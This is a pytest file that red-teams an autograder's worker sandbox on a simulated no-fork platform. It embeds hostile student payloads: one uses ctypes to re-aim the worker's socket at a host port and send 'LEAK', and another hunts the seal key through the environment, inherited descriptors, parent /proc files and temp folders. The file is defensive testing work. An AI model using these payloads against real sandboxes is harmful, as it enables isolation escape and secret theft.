"""The no-fork path (Windows and macOS; here the stand-in tests/platforms/standins/attnlab_nofork.py): every
worker is a fresh interpreter that connects back to its judge over loopback TCP, then jails itself.

Its one socket is a TCP socket: disconnected (connect with AF_UNSPEC) and connected again, it would reach any
port of the host. Where seccomp stands (Linux) connect, bind, listen and addressed sends are refused; where it
does not (the "bare" stand-in takes away Landlock and seccomp as well, as on Windows and macOS) nothing stops
it, and the report says so. Either way the worker never holds the seal key: not in its environment, its
arguments, its descriptors, nor in any file of its judge's it can read."""
from __future__ import annotations

import json
import os
import secrets
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from grader import ROOT

from helpers import venv_over_this_environment

from .harness import FULL, hostile

pytestmark = [pytest.mark.slow,  # grades in jailed workers, trains or builds venvs: the full suite (CI) runs it
              pytest.mark.skipif(sys.platform != "linux", reason="the stand-in takes Linux's fork away")]

STANDIN = ROOT / "tests" / "platforms" / "standins" / "attnlab_nofork.py"
BARE = "import sys\nfor _name in ('landlock', 'pyseccomp'):\n    sys.modules[_name] = None  # as on Windows and macOS\n"


def _nofork(where: Path, bare: bool) -> Path:
    py = venv_over_this_environment(where / "venv", process_pth=True)
    site = Path(subprocess.run([str(py), "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
                               capture_output=True, text=True, check=True).stdout.strip())
    (site / STANDIN.name).write_text(STANDIN.read_text())
    (site / "attnlab_bare.py").write_text(BARE)
    # Linux without fork (and, bare, without Landlock and seccomp): the grader reads Linux as its platform, not the
    # Windows of tests/platforms, whose /proc here a real Windows would not have
    keep = "import os; os.environ['ATTNLAB_STANDIN_PLATFORM'] = 'linux'; "
    (site / "attnlab_nofork.pth").write_text(keep + "import attnlab_nofork" + ("; import attnlab_bare" if bare else "") + "\n")
    return py


@pytest.fixture(scope="module")
def nofork_python(tmp_path_factory) -> Path:
    """The stand-in without fork: the jail's Linux layers (Landlock, seccomp) still go up."""
    return _nofork(tmp_path_factory.mktemp("nofork"), bare=False)


@pytest.fixture(scope="module")
def bare_python(tmp_path_factory) -> Path:
    """The stand-in without fork, Landlock or seccomp: a worker's jail as Windows and macOS have it."""
    return _nofork(tmp_path_factory.mktemp("bare"), bare=True)


def grade(py: Path, sub: Path, pieces: list[str], tmp_path: Path, *, key: str, stdin_key: str) -> tuple[dict, str]:
    """`grade PIECES --quick --format json` under `py`, the seal key given both ways (in the environment, and on
    standard input with --seal-key-file -): (the JSON report, the table grade printed)."""
    out = tmp_path / f"report-{secrets.token_hex(4)}.json"
    env = {**os.environ, "ATTNLAB_SEAL_KEY": key}
    done = subprocess.run([str(py), "-m", "grader", *pieces, "--submission", str(sub), "--quick", "--format", "json",
                           "--out", str(out), "--case-timeout", "20", "--seal-key-file", "-"],
                          input=stdin_key, cwd=ROOT, capture_output=True, text=True, timeout=900, env=env)
    assert done.returncode in (0, 1), done.stdout[-2000:] + done.stderr[-2000:]
    return json.loads(out.read_text()), done.stdout + done.stderr


def once(code: str) -> str:
    """`code` run at the first import of the student's module in a worker process, not at every case's."""
    return "import sys as _sys7\nif not getattr(_sys7, '_attnlab_once', False):\n    _sys7._attnlab_once = True\n" + \
        "".join(f"    {ln}\n" for ln in code.splitlines())


def score(report: dict, piece: str) -> int:
    return next(p["score"] for p in report["pieces"] if p["name"] == piece)


# ---- the attack: the worker's own socket, re-aimed ----

REAIM = '''
import ctypes as _ct
import os as _os5
import stat as _stat

_libc5 = _ct.CDLL(None, use_errno=True)


def _reaim(port):
    """Every socket this worker holds: disconnected (AF_UNSPEC), connected to the host's `port`, made to talk."""
    unspec = _ct.create_string_buffer(16)  # sa_family 0
    there = _ct.create_string_buffer((2).to_bytes(2, "little") + port.to_bytes(2, "big") + bytes([127, 0, 0, 1]) + bytes(8))
    for fd in range(3, 64):
        try:
            if not _stat.S_ISSOCK(_os5.fstat(fd).st_mode):
                continue
        except OSError:
            continue
        steps = [_said(_libc5.connect(fd, unspec, 16)), _said(_libc5.connect(fd, there, 16)),
                 _said(_libc5.sendto(fd, b"LEAK", 4, 0x20000000, there, 16))]  # MSG_FASTOPEN: a connect by sendto
        if steps[1] == "ok":  # re-aimed: say so to whoever listens there
            _libc5.send(fd, b"LEAK", 4, 0)
        print("REAIMED", " ".join(steps), flush=True)


def _said(r):
    """ok, refused (EPERM: seccomp) or failed (the kernel's own error), read at once, before errno moves."""
    return "ok" if r >= 0 else "refused" if _ct.get_errno() == 1 else "failed"
'''


def listening() -> socket.socket:
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(8)
    listener.settimeout(0.5)
    return listener


def heard(listener: socket.socket) -> bytes:
    """What reached the host's port: every connection's bytes."""
    got = b""
    while True:
        try:
            conn, _ = listener.accept()
        except OSError:
            return got
        conn.settimeout(2)
        try:
            got += conn.recv(64) or b"(connected)"
        except OSError:
            got += b"(connected)"
        conn.close()


def test_without_fork_a_worker_cannot_re_aim_its_own_socket_at_a_host_port(nofork_python, lab, arena, tmp_path):
    listener = listening()
    port = listener.getsockname()[1]
    sub = lab(files={"context": hostile("context", arena, top=REAIM, end=once(f"_payload()\n_reaim({port})"))})
    try:
        report, text = grade(nofork_python, sub, ["context"], tmp_path, key="unused", stdin_key="unused")
        assert heard(listener) == b"", "the worker reached a host port"
    finally:
        listener.close()
    assert score(report, "context") == FULL["context"]  # the socket still answers the judge: the honest score
    assert "REAIMED refused refused refused" in text, text[-1500:]  # the attempt ran, once per worker
    assert "REAIMED" not in text.replace("REAIMED refused refused refused", "")
    assert "reach this machine's ports" not in report["jail_note"]  # seccomp stood: the report claims no gap it lacks
    arena.assert_unharmed(text, json.dumps(report))


KEY_HUNT = '''
import os as _o6
import sys as _sys6


def _hunt(secrets_):
    """Where a worker could hold the key: its environment, arguments and descriptors, and the files and the
    process information of its judge (its parent) and of grade (the judge's parent) that it can read."""
    found = []

    def look(where, data):
        if isinstance(data, str):
            data = data.encode("utf-8", "replace")
        for s in secrets_:
            if s.encode() in data:
                found.append(where)

    look("environ", repr(dict(_o6.environ)))
    look("argv", repr(_sys6.argv) + repr(_sys6.orig_argv))
    for fd in range(0, 256):  # what it inherited: a file's text (a pipe or a socket is not read: it would wait)
        try:
            look(f"fd {fd}", _o6.pread(fd, 1 << 20, 0))
        except OSError:
            pass
    ppid = _o6.getppid()
    pids = [ppid]
    try:
        with open(f"/proc/{ppid}/stat") as f:
            pids.append(int(f.read().rsplit(")", 1)[1].split()[1]))
    except (OSError, ValueError, IndexError):
        pass
    paths = ["/proc/self/environ", "/proc/self/cmdline"]
    for pid in pids:
        paths += [f"/proc/{pid}/{n}" for n in ("environ", "cmdline")]
        try:
            paths += [f"/proc/{pid}/fd/{n}" for n in _o6.listdir(f"/proc/{pid}/fd")]
        except OSError:
            pass
        try:
            for folder, _, names in _o6.walk(_o6.readlink(f"/proc/{pid}/cwd")):  # a judge's: its private folder
                paths += [_o6.path.join(folder, n) for n in names]
        except OSError:
            pass
    import tempfile as _tf6
    top = _tf6.gettempdir()
    for entry in _o6.listdir(top):  # every grader's folder of this machine's (staged code, records, sealed cases)
        where = _o6.path.join(top, entry)
        if entry.startswith("attnlab") and not _o6.path.isdir(_o6.path.join(where, "bin")):  # no test's interpreter
            for folder, _, names in _o6.walk(where):
                paths += [_o6.path.join(folder, n) for n in names]
    paths = paths[:5000]
    readable = 0
    for path in paths:
        try:
            fd = _o6.open(path, _o6.O_RDONLY | _o6.O_NONBLOCK)
        except OSError:
            continue
        try:
            look(path, _o6.read(fd, 1 << 20))
            readable += 1
        except OSError:
            pass
        finally:
            _o6.close(fd)
    print("HUNTED", readable, "KEY-FOUND" if found else "no key", sorted(set(found))[:5], flush=True)
'''


def test_without_fork_or_a_file_jail_the_worker_holds_no_seal_key_and_the_report_says_what_it_can_reach(
        bare_python, lab, arena, tmp_path):
    key, stdin_key = "redteam-env-" + secrets.token_hex(12), "redteam-stdin-" + secrets.token_hex(12)
    # the hunt is handed the keys reversed: the student's file (which the worker may read) must not hold them
    hunt = f"_hunt([{key[::-1]!r}[::-1], {stdin_key[::-1]!r}[::-1]])"
    sub = lab(files={"context": hostile("context", arena, top=KEY_HUNT, end=once(hunt))})
    report, text = grade(bare_python, sub, ["context", "luong"], tmp_path, key=key, stdin_key=stdin_key)
    everything = text + json.dumps(report)
    assert key not in everything and stdin_key not in everything and "KEY-FOUND" not in everything
    hunted = [ln for ln in everything.splitlines() if "HUNTED" in ln]
    assert hunted and "no key" in hunted[0], hunted  # the hunt ran, read files and found nothing
    assert int(hunted[0].split("HUNTED ")[1].split()[0]) > 10  # with no Landlock, it read many files
    assert score(report, "context") == FULL["context"] and score(report, "luong") == FULL["luong"]
    missing = {g for p in report["pieces"] for g in p["jail_missing"]}
    assert {"seccomp", "landlock"} <= missing
    # nothing here stops a worker's socket: the report says so, beside the layers it lacks
    assert "(isolation: this machine lacks" in text  # the student's report: one short line
    said = " ".join(report["jail_note"].split())  # the instructor's: what the missing layers let graded code do
    assert "so graded code here can" in said and "reach this machine's ports and the network" in said, said
    assert "the one to trust is a graded run on Linux (the per-push grade, Gradescope) or your instructor's regrade" in said
    arena.assert_unharmed(everything)


def test_without_seccomp_the_re_aimed_socket_reaches_a_host_port_as_the_report_says(bare_python, lab, arena, tmp_path):
    """The control: what the report warns of does happen here (a worker's own socket cannot be kept to its judge
    without seccomp; a network namespace, where root makes one, holds only sockets made after it)."""
    listener = listening()
    port = listener.getsockname()[1]
    sub = lab(files={"context": hostile("context", arena, top=REAIM, end=once(f"_reaim({port})"))})
    try:
        report, text = grade(bare_python, sub, ["context"], tmp_path, key="unused", stdin_key="unused")
        reached = heard(listener)
    finally:
        listener.close()
    assert b"LEAK" in reached, (reached, text[-1500:])
    assert score(report, "context") <= FULL["context"]  # what it earns with its channel cut: never more
    assert "reach this machine's ports and the network" in " ".join(report["jail_note"].split()), report["jail_note"]
    arena.assert_unharmed(text, json.dumps(report))
